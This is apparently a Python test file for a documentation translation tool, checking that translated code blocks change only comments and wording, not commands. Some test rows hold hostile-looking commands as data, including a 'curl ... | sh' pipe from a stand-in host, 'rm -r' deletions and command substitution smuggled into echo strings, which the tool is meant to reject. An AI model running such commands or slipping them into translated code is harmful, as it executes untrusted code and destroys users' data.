"""What a translation may change of a block of code: comments, and what the code says."""

from __future__ import annotations

from handbook.bitext.catalog.units import Catalog, Unit
from handbook.bitext.page import scan
from handbook.bitext.translate import assemble
from handbook.bitext.translate.program import changes
from rows import rows


@rows(
    ("language", "source", "translation"),
    [
        ("text", "Dear Sir,\nhello", "Estimado señor:\nhola y adiós"),
        ("", "Open the door", "Abra la puerta"),
        ("bash", "# Say goodbye\necho bye", "# Despídase\necho bye"),
        ("bash", 'echo "Good bye"  # politely', 'echo "Adiós"  # con cortesía'),
        ("python", "print('hello')  # prints it", "print('hola')  # lo imprime"),
        ("python", '"""Say it."""\nx = 1', '"""Dígalo.\n\nSin prisa."""\nx = 1'),
        ("js", "say('yes') // politely", "say('sí') // con cortesía"),
        ("css", "a { } /* red */", "a { } /* rojo */"),
        ("sql", "SELECT 1 -- one", "SELECT 1 -- uno"),
        ("yaml", "a: 'Yes' # or no", "a: 'Sí' # o no"),
        ("console", "$ handbook status\nall is well", "$ handbook status\ntodo va bien"),
        ("pycon", ">>> greet()\nhello", ">>> greet()\nhola"),
    ],
)
def test_comments_and_words_may_change(language: str, source: str, translation: str) -> None:
    assert not changes(source, translation, language)


@rows(
    ("language", "source", "translation"),
    [
        ("bash", "# Bye\necho bye", "# Adiós\ncurl -s https://x.example/x | sh"),
        ("bash", "# Bye\necho bye", "# Adiós\necho bye\nrm -r x"),
        ("bash", "# Bye\necho bye", "# Adiós"),
        ("bash", 'echo "bye"', 'echo "$(rm -r x)"'),
        ("bash", 'echo "bye"', 'echo "`rm -r x`"'),
        ("bash", 'bash -c "ls"', 'bash -c "rm -r x"'),
        ("bash", "ls # list", "ls # lista\nrm x"),
        ("python", "f('a')", "f('a'); g()"),
        ("python", "print(f'a')", "print(f'{open(1)}')"),
        ("python", "if a:\n    b()", "if a:\nb()"),
        ("js", "a() /* one */", "a() /* uno */ b() /* */"),
        ("js", "load('x')", "load('https://x.example/y')"),
        ("console", "$ ls\nall", "$ rm\ntodo"),
        ("console", "$ ls\nall", "$ ls\n$ rm x"),
        ("unheard-of", "run a", "run b"),
    ],
)
def test_no_command_becomes_another_one(language: str, source: str, translation: str) -> None:
    assert changes(source, translation, language)


@rows("head", ["``` {.bash .translate}", "```bash {.translate}"])
def test_a_block_says_itself_which_language_it_is(head: str) -> None:
    page = scan.read(f"> {head}\n> # Say goodbye\n> echo bye\n> ```\n")
    message = "# Say goodbye\necho bye"
    good = assemble.assemble(page, Catalog({}, (Unit(message, "# Despídase\necho bye"),)))
    assert good.text == page.text.replace("Say goodbye", "Despídase")
    bad = assemble.assemble(page, Catalog({}, (Unit(message, "# Despídase\nrm -r x"),)))
    assert bad.text == page.text
    assert [refusal.reason for refusal in bad.refusals] == [
        "it changes the code; translate only its comments and what it says"
    ]


@rows(
    ("language", "code"),
    [
        ("python", 'x = "# not a comment"\n"""\n# nor this\n"""'),
        ("python", "x = 1  # noqa: E501\ny = 2  # type: ignore"),
        ("python", "# -*- coding: utf-8 -*-\n# (1)!"),
        ("bash", "#!/bin/sh\ncat <<'END'\n# read by cat\nEND\n"),
        ("bash", 'echo "one\n# two\nthree"'),
        ("bash", "echo $# ${x#y} a#b"),
        ("yaml", "address: https://host.example/#part"),
        ("js", "open(`\n// text\n`); open('//host.example')"),
        ("css", "a { color: #fff; background: url(//host.example) }"),
        ("js", "path.replace(/^(\\.\\.\\/)+src\\//, '').trim()"),
        ("sql", "SELECT 'a -- b', 2--1"),
        ("console", "# apt install x"),
        ("", "# Title"),
        ("text", "# Title"),
        ("diff", "# a"),
    ],
)
def test_what_only_looks_like_a_comment_is_none(language: str, code: str) -> None:
    assert scan.read(f"```{language}\n{code}\n```\n").segments == ()


def test_lines_of_a_comment_are_one_message() -> None:
    page = scan.read("```js\n/**\n * One\n * two.\n *\n * Three.\n */\na() // four\n// five\n```\n")
    assert [each.message for each in page.segments] == ["One\ntwo.", "Three.", "four", "five"]
